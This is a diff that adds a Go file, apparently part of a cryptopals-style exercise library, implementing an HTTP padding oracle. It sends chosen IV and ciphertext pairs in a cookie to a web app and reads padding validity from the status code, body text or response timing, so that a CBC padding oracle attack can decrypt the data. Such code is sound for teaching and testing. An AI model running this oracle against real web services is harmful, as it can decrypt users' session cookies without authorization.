@@ -0,0 +1,88 @@
+package cpals
+
+import (
+	"encoding/base64"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"strings"
+	"time"
+)
+
+// ResponseClassifier decides from a web app's response whether the padding
+// was good
+type ResponseClassifier func(status int, body []byte, elapsed time.Duration) bool
+
+// StatusClassifier calls the padding bad when the status is badStatus
+func StatusClassifier(badStatus int) ResponseClassifier {
+	return func(status int, body []byte, elapsed time.Duration) bool {
+		return status != badStatus
+	}
+}
+
+// BodyClassifier calls the padding bad when the body contains badText
+func BodyClassifier(badText string) ResponseClassifier {
+	return func(status int, body []byte, elapsed time.Duration) bool {
+		return !strings.Contains(string(body), badText)
+	}
+}
+
+// TimingClassifier calls the padding good when the response takes longer
+// than threshold, for apps which skip work on bad padding
+func TimingClassifier(threshold time.Duration) ResponseClassifier {
+	return func(status int, body []byte, elapsed time.Duration) bool {
+		return elapsed > threshold
+	}
+}
+
+// HTTPPaddingOracle sends ciphertexts to a web app in a cookie, and reads
+// padding validity from the response
+type HTTPPaddingOracle struct {
+	URL    string
+	Cookie string
+	// Classify reads the response
+	Classify ResponseClassifier
+	// Encode makes the cookie value. Default base64 of IV then ciphertext.
+	Encode func(iv, buf []byte) string
+	// Client defaults to http.DefaultClient
+	Client *http.Client
+}
+
+func (h HTTPPaddingOracle) encode(iv, buf []byte) string {
+	if h.Encode != nil {
+		return h.Encode(iv, buf)
+	}
+	both := make([]byte, 0, len(iv)+len(buf))
+	both = append(both, iv...)
+	both = append(both, buf...)
+	return base64.StdEncoding.EncodeToString(both)
+}
+
+// Query makes one request. It is a PaddingQuery, so request errors stop
+// an attack rather than crashing it, eg
+//
+//	msg, queries, err := PaddingQuery(h.Query).Decrypt(iv, ctxt)
+func (h HTTPPaddingOracle) Query(iv, buf []byte) (bool, error) {
+	req, err := http.NewRequest(http.MethodGet, h.URL, nil)
+	if err != nil {
+		return false, fmt.Errorf("Can't create request: %w", err)
+	}
+	req.AddCookie(&http.Cookie{Name: h.Cookie, Value: h.encode(iv, buf)})
+	client := h.Client
+	if client == nil {
+		client = http.DefaultClient
+	}
+
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		return false, fmt.Errorf("Can't do request: %w", err)
+	}
+	defer resp.Body.Close()
+	body, err := ioutil.ReadAll(resp.Body)
+	elapsed := time.Since(start)
+	if err != nil {
+		return false, fmt.Errorf("Can't read response: %w", err)
+	}
+	return h.Classify(resp.StatusCode, body, elapsed), nil
+}